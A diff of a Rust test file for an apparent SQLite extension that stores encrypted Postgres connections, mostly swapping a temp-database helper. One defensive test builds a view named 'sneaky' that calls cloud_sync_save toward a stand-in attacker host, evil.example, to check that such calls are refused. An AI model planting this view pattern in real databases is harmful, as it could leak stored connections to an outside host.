@@ -8,7 +8,7 @@ use std::net::TcpListener;
 use std::time::{Duration, Instant};
 
 use common::local::{all_stored_text, column_names, error_of, int_of, json_of, save, value_of};
-use common::{closed_port, open, open_in_memory, open_with, pg, sql_str, temp_db, KEY};
+use common::{closed_port, open, open_in_memory, open_temp, open_with, pg, sql_str, temp_db, KEY};
 use rusqlite::{Connection, OpenFlags};
 use serde_json::Value;
 
@@ -91,8 +91,7 @@ fn version_and_debug_describe_the_build_without_the_key() {
 
 #[test]
 fn loading_twice_and_into_many_connections_is_safe() {
-    let (_dir, path) = temp_db("many");
-    let conn = open(&path);
+    let (dir, conn) = open_temp("many");
     conn.execute_batch("PRAGMA user_version = 7; PRAGMA journal_mode = WAL;")
         .unwrap();
     common::load(&conn).unwrap();
@@ -100,7 +99,7 @@ fn loading_twice_and_into_many_connections_is_safe() {
     let pg = pg();
     let handles: Vec<_> = (0..4)
         .map(|i| {
-            let path = path.clone();
+            let path = dir.db();
             let url = pg.verified_url();
             std::thread::spawn(move || {
                 let conn = open(&path);
@@ -127,8 +126,7 @@ fn loading_twice_and_into_many_connections_is_safe() {
 
 #[test]
 fn the_schema_is_created_idempotently_with_the_job_columns_later_issues_need() {
-    let (_dir, path) = temp_db("schema");
-    let conn = open(&path);
+    let (_dir, conn) = open_temp("schema");
     common::load(&conn).unwrap();
     let columns = column_names(&conn, "cloud_sync_jobs");
     for needed in [
@@ -247,8 +245,7 @@ fn a_read_only_database_gets_the_functions_and_clear_refusals() {
 
 #[test]
 fn functions_with_effects_cannot_run_from_views_or_triggers() {
-    let (_dir, path) = temp_db("directonly");
-    let conn = open(&path);
+    let (_dir, conn) = open_temp("directonly");
     conn.execute_batch(
         "CREATE VIEW sneaky AS SELECT cloud_sync_save('stolen', 'postgresql://u@evil.example/d');
          CREATE TABLE t(x);
@@ -271,8 +268,7 @@ fn functions_with_effects_cannot_run_from_views_or_triggers() {
 #[test]
 fn save_encrypts_replaces_by_name_and_never_stores_or_shows_the_password() {
     let pg = pg();
-    let (_dir, path) = temp_db("save");
-    let conn = open(&path);
+    let (_dir, conn) = open_temp("save");
     let url = pg.verified_url();
     let stored_ciphertext = || -> String {
         value_of(
@@ -317,8 +313,7 @@ fn save_encrypts_replaces_by_name_and_never_stores_or_shows_the_password() {
 
 #[test]
 fn delete_removes_a_connection_and_names_unknown_ones() {
-    let (_dir, path) = temp_db("delete");
-    let conn = open(&path);
+    let (_dir, conn) = open_temp("delete");
     save(&conn, "gone", &pg().verified_url());
     assert_eq!(int_of(&conn, "SELECT cloud_sync_delete('gone')"), 1);
     let err = error_of(&conn, "SELECT cloud_sync_delete('gone')");
